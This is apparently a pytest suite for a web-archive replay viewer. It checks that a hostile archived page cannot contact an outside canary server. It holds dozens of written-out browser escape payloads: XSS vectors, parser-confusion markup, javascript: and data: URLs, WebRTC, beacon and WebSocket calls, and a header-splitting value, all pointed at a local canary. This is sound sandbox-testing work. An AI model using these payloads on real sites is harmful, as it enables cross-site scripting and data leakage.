"""A hostile page tries every way out of the archive; a canary beside it hears nothing."""

from __future__ import annotations

import base64
import io
import socketserver
import threading
from collections.abc import Callable, Iterator
from contextlib import suppress
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from crawler.archive import Recorder
from crawler.model import Exchange, Outcome, Purpose, Role
from crawler.web.viewer import installed

BASE = "https://attack.example/"
URL = f"{BASE}page"
SILENT = b"(a connection)"
SEEN = """(function text(root) {
  let all = root.body ? root.body.innerText : "";
  for (const element of root.querySelectorAll("*")) {
    if (element.shadowRoot) all += "\\n" + text(element.shadowRoot);
    if (element.tagName === "IFRAME") try { all += "\\n" + text(element.contentDocument) } catch (error) {}
  }
  return all;
})(document)"""
SUBPAGES = ("frame", "sheet.css", "picture.svg", "worker.js", "redirect", "refresh")


class Canary:
    """Hears every connection made to it, whatever is said there."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        canary = self

        class Handler(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                place = len(canary.heard)
                canary.heard.append(SILENT)
                self.request.settimeout(2)
                with suppress(OSError):
                    canary.heard[place] = self.request.recv(4096) or SILENT

        self._server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
        self.host = f"127.0.0.1:{self._server.server_address[1]}"
        self._thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.01})
        self._thread.start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


def ways_out(host: str) -> dict[str, str]:
    """Each attempt by its name, with an address of its own at the canary."""
    at = f"http://{host}"
    script = f"fetch('{at}/W');new Image().src='{at}/W';location='{at}/W'"
    in_data = base64.b64encode(f"<script>{script}</script><img src='{at}/W'>".encode()).decode()
    return {
        "script": f"<script>{script}</script>",
        "script source": f'<script src="{at}/W"></script><script type=module src="{at}/W"></script>',
        "script in a comment": f"<!--><script>{script}</script>-->",
        "script split by a comment": f"<script><!--<script></script>--></script><img src='{at}/W'>",
        "event handler": f'<img src=x onerror="{script}"><body onload="{script}"><svg onload="{script}"></svg>',
        "picture": f"<img src='{at}/W'><img srcset='{at}/W 1x, {at}/W 2x'><input type=image src='{at}/W'>",
        "picture source": f"<picture><source srcset='{at}/W'><img></picture>",
        "lazy picture": f"<img data-src='{at}/W' loading=lazy>",
        "protocol-relative": f"<img src='//{host}/W'><img src='\\\\{host}/W'><img src='ht\ntp://{host}/W'>",
        "background": f"<table background='{at}/W'><tr><td background='{at}/W'>x</table>",
        "frame": f"<iframe src='{at}/W'></iframe><frameset><frame src='{at}/W'></frameset>",
        "srcdoc": f'<iframe srcdoc="<script>{script.replace(chr(39), "&apos;")}</script><img src={at}/W>"></iframe>',
        "data frame": f"<iframe src='data:text/html;base64,{in_data}'></iframe>",
        "javascript frame": f'<iframe src="javascript:{script}"></iframe>',
        "form": f"<form action='{at}/W' method=post><input name=a><button formaction='{at}/W'>x</button></form>",
        "meta refresh": f"<meta http-equiv=refresh content='0;url={at}/W'>",
        "meta policy": '<meta http-equiv=content-security-policy content="default-src *">',
        "base": f"<base href='{at}/W/' target=_top><img src=relative>",
        "link sheet": f"<link rel=stylesheet href='{at}/W'><link rel='alternate stylesheet' href='{at}/W'>",
        "link hints": "".join(
            f"<link rel={rel} href='{at}/W' as=image>"
            for rel in (
                "prefetch",
                "preload",
                "preconnect",
                "dns-prefetch",
                "prerender",
                "modulepreload",
                "manifest",
                "icon",
                "import",
                "search",
                "pingback",
                "next",
            )
        ),
        "style": f"<style>@import '{at}/W'; body{{background:url({at}/W)}} p::before{{content:url('{at}/W')}}</style>",
        "escaped style": f"<style>body{{background:\\75rl({at}/W);background:u\\72 l('{at}/W')}}</style>",
        "font": f"<style>@font-face{{font-family:x;src:url({at}/W)}} *{{font-family:x}}</style>",
        "style attribute": f"<p style=\"background:url('{at}/W');cursor:url({at}/W),auto\">x",
        "image-set": f"<p style=\"background-image:image-set('{at}/W' 1x)\">x",
        "svg use": f"<svg><use href='{at}/W#a'/><image href='{at}/W' width=9 /><use xlink:href='{at}/W'/></svg>",
        "svg style": f"<svg><style><img src='{at}/W'><a href='{at}/W'>x</a></style></svg>",
        "svg animation": f"<svg><a id=s><set attributeName=href to='{at}/W'/><text y=9>x</text></a></svg>",
        "foreign object": f"<svg><foreignObject><iframe src='{at}/W'></iframe></foreignObject></svg>",
        "math": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src={at}/W&gt;'></math>",
        "object": f"<object data='{at}/W'><embed src='{at}/W'></object><applet code=x codebase='{at}/W'></applet>",
        "media": f"<video src='{at}/W' poster='{at}/W' autoplay></video><audio src='{at}/W'><track src='{at}/W'>",
        "link with ping": f"<a id=l href='{at}/W' ping='{at}/W' target=_blank>x</a>",
        "javascript link": f'<a id=j href="java\tscript:{script}">x</a>',
        "vbscript and data links": f"<a id=d href='data:text/html;base64,{in_data}'>x</a>",
        "service worker": "<script>navigator.serviceWorker.register('/web/2026js_/https://attack.example/worker.js')</script>",
        "manifest": f"<html manifest='{at}/W'><link rel=manifest href='{at}/W'>",
        "processing instruction": f"<?xml-stylesheet href='{at}/W'?><?php <img src='{at}/W'> ?>",
        "cdata": f"<![CDATA[><img src='{at}/W'>]]>",
        "template": f"<div><template shadowrootmode=open><img src='{at}/W'></template></div>",
        "noscript": f"<noscript><img src='{at}/W'><iframe src='{at}/W'></iframe></noscript>",
        "textarea": f"<textarea><img src='{at}/W'></textarea><title><img src='{at}/W'></title>",
        "xmp": f"<xmp><img src='{at}/W'></xmp><noembed><img src='{at}/W'></noembed>",
        "broken attributes": f"<img alt='\"><img src={at}/W>' \"src='{at}/W'><a/href='{at}/W'>x</a><img/src={at}/W>",
        "attribution": f"<img attributionsrc='{at}/W' src=x><a attributionsrc='{at}/W'>x</a>",
        "portal": f"<portal src='{at}/W'></portal><fencedframe src='{at}/W'></fencedframe>",
        "other pages": "".join(f"<iframe src='https://attack.example/{name}'></iframe>" for name in SUBPAGES),
    }


def ways_of_scripts(host: str) -> dict[str, str]:
    """What is open to scripts alone."""
    at = f"http://{host}"
    apart = f"fetch('{at}/W');new WebSocket('ws://{host}/W');importScripts('{at}/W')"
    frame = "let f=document.body.appendChild(document.createElement('iframe')).contentWindow;"
    server = f"{{urls:'turn:{host}?transport=tcp',username:'a',credential:'b'}}"
    peer = f"RTCPeerConnection({{iceServers:[{server}]}});p.createDataChannel('x');p.setLocalDescription()"
    ways = {
        "fetch": f"fetch('{at}/W',{{mode:'no-cors'}})",
        "request": f"let r=new XMLHttpRequest();r.open('GET','{at}/W');r.send()",
        "beacon": f"navigator.sendBeacon('{at}/W','x')",
        "socket": f"new WebSocket('ws://{host}/W')",
        "events": f"new EventSource('{at}/W')",
        "transport": f"new WebTransport('https://{host}/W')",
        "peer": f"let p=new {peer}",
        "those of a new frame": f"{frame}f.fetch('{at}/W');new f.WebSocket('ws://{host}/W');let p=new f.{peer}",
        "worker": f'new Worker(URL.createObjectURL(new Blob(["{apart}"])))',
        "shared worker": f'new SharedWorker(URL.createObjectURL(new Blob(["{apart}"])))',
        "form sent to a frame": "let i=document.createElement('iframe');i.name='n';document.body.append(i);"
        f"let f=document.createElement('form');f.action='{at}/W';f.target='n';document.body.append(f);f.submit()",
        "hints made": "for(const r of ['preconnect','dns-prefetch','prefetch','preload','prerender'])"
        f"{{let l=document.createElement('link');l.rel=r;l.href='{at}/W';l.as='image';document.head.append(l)}}",
        "hints written": f"document.write(\"<link rel=preconnect href='{at}/W'><img src='{at}/W'>\")",
        "speculation": "let s=document.createElement('script');s.type='speculationrules';s.textContent="
        f"JSON.stringify({{prefetch:[{{urls:['{at}/W']}}],prerender:[{{urls:['{at}/W']}}]}});document.head.append(s)",
        "shadow": "let h=document.body.appendChild(document.createElement('div'));"
        f"h.attachShadow({{mode:'open'}}).innerHTML=\"<img src='{at}/W'>\"",
        "font made": f"new FontFace('x','url({at}/W)').load()",
        "import": f"import('{at}/W')",
    }
    return {name: f"<script>{{{script}}}</script>" for name, script in ways.items()}


def ways_of_frames(host: str) -> str:
    """WebRTC of frames that come to no one's notice, after the page was seen to run."""
    server = f"{{urls:'turn:{host}?transport=tcp',username:'a',credential:'b'}}"
    peer = f"RTCPeerConnection({{iceServers:[{server}]}});p.createDataChannel('x');p.setLocalDescription()"
    late = "setTimeout(()=>{let p=new %s" + peer + "},2000)"
    written = (late % "").replace("'", "&apos;")
    return (
        f'<iframe srcdoc="<script>{written}</script>"></iframe><iframe name=named></iframe>'
        f'<iframe src="javascript:{late % ""}"></iframe><script>{late % "named."};{late % "window[0]."}</script>'
    )


def ways_of_leaving(host: str) -> dict[str, str]:
    """What takes the page's place."""
    at = f"http://{host}"
    ways = {
        "location": f"location='{at}/W'",
        "top": f"top.location='{at}/W'",
        "window": f"open('{at}/W')",
        "frame around": f"parent.location='{at}/W'",
        "form sent": f"let f=document.createElement('form');f.action='{at}/W';document.body.append(f);f.submit()",
        "link clicked": f"let a=document.createElement('a');a.href='{at}/W';document.body.append(a);a.click()",
        "worker unregistered": "navigator.serviceWorker.getRegistrations().then(async all=>{for(const r of all)"
        f"await r.unregister();fetch('{at}/W');location='{at}/W'}})",
    }
    return {name: f"<script>{script}</script>" for name, script in ways.items()}


def told(name: str, way: str) -> str:
    """A way out that tells the canary its name."""
    return f"<section title='{name}'>{way.replace('/W', '/' + name.replace(' ', '-'))}</section>\n"


def headers(host: str) -> str:
    at = f"http://{host}"
    return "".join(
        f"{line}\r\n"
        for line in (
            f"Link: <{at}/W>; rel=preload; as=image, <{at}/W>; rel=preconnect, <{at}/W>; rel=stylesheet",
            f"Refresh: 0; url={at}/W", "Set-Cookie: a=b; Path=/", "Strict-Transport-Security: max-age=999",
            'Clear-Site-Data: "*"', "Service-Worker-Allowed: /", "Content-Security-Policy: default-src *",
            f"Report-To: {{\"group\":\"x\",\"max_age\":9,\"endpoints\":[{{\"url\":\"{at}/W\"}}]}}",
            "NEL: {\"report_to\":\"x\",\"max_age\":9}", f"Content-Location: {at}/W", "Access-Control-Allow-Origin: *",
            f"SourceMap: {at}/W", f"Speculation-Rules: \"{at}/W\"", "Alt-Svc: h2=\":9\"", "X-Frame-Options: DENY",
            "X-Split: a\rSet-Cookie: c=d", "Content-Disposition: attachment", "WWW-Authenticate: Basic realm=x",
        )
    )  # fmt: skip


def responses(host: str) -> dict[str, bytes]:
    at = f"http://{host}"
    extra = headers(host)

    def answer(kind: str, body: str, status: str = "200 OK", more: str = "") -> bytes:
        data = body.encode()
        head = f"HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {len(data)}\r\n{more}{extra}\r\n"
        return head.encode() + data

    page = "<!doctype html><title>attack</title><h1>attack page</h1>"
    for name, way in ways_out(host).items():
        page += told(name, way)
    # Frames of nobody's tags that end the page: what comes after "plaintext" is text.
    page += "<p id=end>the end</p><plaintext><img src='" + at + "/plaintext'>"
    attack_svg = (
        f"<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('{at}/svg')</script><image href='{at}/svg'/></svg>"
    )
    base = "https://attack.example/"
    return {
        URL: answer("text/html; charset=utf-8", page),
        base + "frame": answer("text/html", f"<script>top.location='{at}/framed'</script><img src='{at}/framed'>"),
        base + "sheet.css": answer("text/css", f"@import '{at}/sheet'; body{{background:url({at}/sheet)}}"),
        base + "picture.svg": answer("image/svg+xml", attack_svg),
        base + "worker.js": answer("text/javascript", f"fetch('{at}/worker')"),
        base + "redirect": answer("text/html", "", "302 Found", f"Location: {at}/redirect\r\n"),
        base + "refresh": answer("text/html", f"<meta http-equiv=refresh content='0;{at}/refreshed'>"),
        base + "feed.xml": answer("application/xml", f"<?xml-stylesheet type='text/xsl' href='{at}/xsl'?><a/>"),
        base + "sniffed": answer("image/png", f"<html><script>fetch('{at}/sniffed')</script><img src='{at}/sniffed'>"),
    }


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    opened = Canary()
    yield opened
    opened.close()


@pytest.fixture(scope="module")
def attack(tmp_path_factory: pytest.TempPathFactory, canary: Canary, serving: Callable[..., Any]) -> Any:
    """A desk over an archive of the hostile page, as its server sent it."""
    root = tmp_path_factory.mktemp("attack")
    record(root / "hostile", responses(canary.host))
    return serving(root)


def record(folder: Path, answers: dict[str, bytes], at: datetime = datetime(2026, 11, 22, 18, tzinfo=UTC)) -> None:
    recorder = Recorder(folder, software="tests", contact=None)
    for url, answer in answers.items():
        exchange = Exchange(
            url=url, started_at=at, request=io.BytesIO(b"GET / HTTP/1.1\r\nHost: attack.example\r\n\r\n"),
            response=io.BytesIO(answer), purpose=Purpose(Role.SEED), outcome=Outcome.OK,
        )  # fmt: skip
        recorder.record(exchange).result()
    recorder.close()


def test_outside_the_archive_the_page_reaches_whom_it_likes(tab: Any) -> None:
    heard = Canary()
    try:
        tab.call("Emulation.setScriptExecutionDisabled", value=True)  # the first script would leave the page
        frame = tab.call("Page.getFrameTree")["frameTree"]["frame"]["id"]
        page = responses(heard.host)[URL].partition(b"\r\n\r\n")[2].decode()
        tab.call("Page.setDocumentContent", frameId=frame, html=page)
        tab.wait_until(lambda: len({line.split(b" ")[1] for line in heard.heard if b" " in line}) > 10)
    finally:
        heard.close()


def test_none_of_them_reaches_anyone(attack: Any, canary: Canary, tab: Any) -> None:
    assert len(ways_out(canary.host)) + headers(canary.host).count("\r\n") >= 25
    tab.open(f"{attack.origins.desk}/web/20261122180000/{URL}", settle=1.0)
    assert "attack page" in tab.value("document.body.innerText", frame=True)
    assert "the end" in tab.value("document.body.innerText", frame=True)
    assert tab.value("[...document.scripts].length", frame=True) == 0
    links = tab.value(
        "[...document.querySelectorAll('a, area')].map(a => a.href?.animVal ?? a.href).filter(Boolean)", frame=True
    )
    own = (attack.origins.desk + "/web/", attack.origins.replay + "/web/")
    assert len(links) >= 2
    assert [link for link in links if not link.startswith(own)] == []
    tab.value("document.querySelector('#l').click()", frame=True)
    tab.settle(0.5)
    assert tab.value("location.href").startswith(own[0])
    tab.picture("attack")
    assert canary.heard == []


@pytest.mark.parametrize("name", ["mp_", "id_", "im_", "cs_", "oe_"])
def test_nor_does_any_of_its_files_opened_by_itself(attack: Any, canary: Canary, tab: Any, name: str) -> None:
    for url in responses(canary.host):
        status, fields, _ = attack.get(f"{attack.origins.replay}/web/20261122180000{name}/{url}")
        assert status in (200, 302)
        assert "sandbox" in fields["content-security-policy"]
        assert "default-src 'none'" in fields["content-security-policy"]
        assert fields["x-content-type-options"] == "nosniff"
        unwanted = {"set-cookie", "refresh", "strict-transport-security", "clear-site-data", "service-worker-allowed",
                    "report-to", "nel", "access-control-allow-origin", "sourcemap", "speculation-rules", "alt-svc",
                    "x-frame-options", "www-authenticate", "x-split"}  # fmt: skip
        assert not unwanted & {field.lower() for field in fields}
        address = f"{attack.origins.replay}/web/20261122180000{name}/{url}"
        if fields.get("content-disposition") == "attachment":  # Chromium saves it: there is no page to load
            tab.call("Page.navigate", url=address)
            tab.settle(0.05)
        elif status == 200:
            tab.open(address, settle=0.05)
    assert canary.heard == []


def test_its_redirect_leads_into_the_archive(attack: Any, canary: Canary) -> None:
    _, fields, _ = attack.get(f"{attack.origins.replay}/web/20261122180000mp_/https://attack.example/redirect")
    assert fields["location"] == f"{attack.origins.replay}/web/20261122180000mp_/http://{canary.host}/redirect"


@pytest.fixture(scope="module")
def scripted(tmp_path_factory: pytest.TempPathFactory, canary: Canary, serving: Callable[..., Any]) -> Any:
    """A desk with ReplayWeb.page, where scripts run, over a hostile page and others that take its place."""
    folder = installed() or installed(Path(__file__).parents[2] / ".venv-interop" / "replaywebpage")
    if folder is None:
        pytest.skip("no ReplayWeb.page here: `make interop` or `wirecopy viewer install` fetches it")
    root = tmp_path_factory.mktemp("scripted")
    at = f"http://{canary.host}"
    tags, scripts = ways_out(canary.host), ways_of_scripts(canary.host)
    leaving = {name: tags.pop(name) for name in ("meta refresh", "other pages")} | ways_of_leaving(canary.host)
    pages = {}
    for name, ways in (("many tags", tags), ("many scripts", scripts)):
        pages[name] = "".join(told(key, way.replace(f";location='{at}/W'", "")) for key, way in ways.items())
        pages[name] += "<p id=end>the end"
    pages |= {name: told(name, way) for name, way in leaving.items()}
    pages["frames"] = ways_of_frames(canary.host)
    answers = responses(canary.host)
    head = answers[URL].partition(b"Content-Length")[0] + headers(canary.host).encode() + b"\r\n"
    for name, page in pages.items():
        ran = "<script>document.querySelector('h1').append(' ran')</script>"
        answers[BASE + name.replace(" ", "-")] = head + f"<!doctype html><h1>{name}</h1>{ran}{page}".encode()
    record(root / "hostile", answers)
    return serving(root, viewer=folder), tuple(pages)


def see(tab: Any, address: str, words: tuple[str, ...]) -> None:
    """Open a page until it shows one of ``words``: one that leaves at once may have gone before it was looked at."""
    for patience in (3, 6, 12, 24, 48, 96):
        tab.open(address, settle=0.1)
        try:
            tab.wait_until(lambda: any(each in tab.value(SEEN, frame=True) for each in words), patience)
        except AssertionError:
            if patience == 96:
                raise
        else:
            return


def test_a_page_asked_for_before_replaywebpage_is_ready_waits_for_it(scripted: Any, tab: Any) -> None:
    desk, names = scripted
    page = f"{desk.origins.viewer}/replay/w/any/20261122180000mp_/{BASE}{names[0].replace(' ', '-')}"
    tab.open(page, settle=0.1)
    assert tab.value("document.body.innerText") == "Waiting for ReplayWeb.page to be ready."
    tab.value("void navigator.serviceWorker.register('/replay/sw.js')")
    tab.wait_until(lambda: tab.value("navigator.serviceWorker.controller !== null"))
    tab.wait_until(lambda: tab.value("!document.body.innerText.startsWith('Waiting')"))


@pytest.mark.slow
def test_nor_does_any_in_replaywebpage_where_scripts_run(scripted: Any, canary: Canary, tab: Any) -> None:
    desk, names = scripted
    for name in names:
        address = f"{desk.origins.desk}/scripts/20261122180000/{BASE}{name.replace(' ', '-')}"
        shown = (f"{name} ran", "Go Back to the previous page")  # the second is what it says of pages that it has not
        see(tab, address, shown)
        if name.startswith("many"):
            tab.wait_until(lambda: "the end" in tab.value(SEEN, frame=True))
        tab.settle(1.0 if name.startswith("many") else 0.2)
        assert tab.value("location.href").startswith(desk.origins.desk)
    tab.picture("attack-scripts")
    tab.settle(4.0)  # those of frames come late, and the last of the pages is theirs
    assert canary.heard == []
